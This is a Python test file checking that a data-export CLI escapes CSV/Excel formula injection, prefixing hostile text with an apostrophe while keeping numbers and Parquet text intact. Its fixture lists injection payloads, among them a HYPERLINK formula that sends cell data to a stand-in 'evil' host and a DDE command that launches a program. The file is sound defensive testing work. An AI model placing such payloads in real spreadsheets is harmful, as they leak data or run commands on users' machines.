"""Exports for spreadsheets never carry formulas from report text: text starting with
=, +, -, @ (or a tab / carriage return) starts with a ' in CSV and Excel; numbers stay
numbers and Parquet keeps the text as it is."""

from __future__ import annotations

import csv
from pathlib import Path

import duckdb
import openpyxl
import pyarrow.parquet as pq
import pytest
from click.testing import CliRunner

from xxgk.orchestration.cli import main

HOSTILE = [
    '=HYPERLINK("http://evil/?"&A1,"click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1,1)",
    "\t=1+1",
]
PLAIN = ["演示区人社局", "a=b", "(unknown)"]


@pytest.fixture()
def warehouse(tmp_path: Path) -> Path:
    path = tmp_path / "data" / "warehouse.duckdb"
    path.parent.mkdir()
    with duckdb.connect(str(path)) as con:
        con.execute("create table main.dim_reports (agency_name varchar, value double)")
        con.executemany(
            "insert into main.dim_reports values (?, ?)", [(text, -1.5) for text in HOSTILE + PLAIN]
        )
    return path


def _export(warehouse: Path, to: str, out: Path) -> Path:
    result = CliRunner().invoke(
        main, ["export", "--warehouse", str(warehouse), "--to", to, "--out", str(out)]
    )
    assert result.exit_code == 0, result.output
    return Path(result.output.strip())


def test_csv_cells_are_text_not_formulas(warehouse: Path, tmp_path: Path) -> None:
    path = _export(warehouse, "csv", tmp_path / "out")
    rows = list(csv.DictReader(path.open(encoding="utf-8-sig", newline="")))
    assert sorted(r["agency_name"] for r in rows) == sorted(["'" + t for t in HOSTILE] + PLAIN)
    assert {r["value"] for r in rows} == {"-1.5"}  # a negative number is not text


def test_xlsx_cells_are_strings_not_formulas(warehouse: Path, tmp_path: Path) -> None:
    sheet = openpyxl.load_workbook(_export(warehouse, "xlsx", tmp_path / "out"))["dim_reports"]
    names = [row[0] for row in sheet.iter_rows(min_row=2)]
    assert all(cell.data_type == "s" for cell in names)  # 'f' would be a formula
    assert sorted(c.value for c in names) == sorted(["'" + t for t in HOSTILE] + PLAIN)
    assert {row[1].value for row in sheet.iter_rows(min_row=2)} == {-1.5}


def test_parquet_keeps_the_text(warehouse: Path, tmp_path: Path) -> None:
    table = pq.read_table(_export(warehouse, "parquet", tmp_path / "out"))
    assert sorted(table.column("agency_name").to_pylist()) == sorted(HOSTILE + PLAIN)
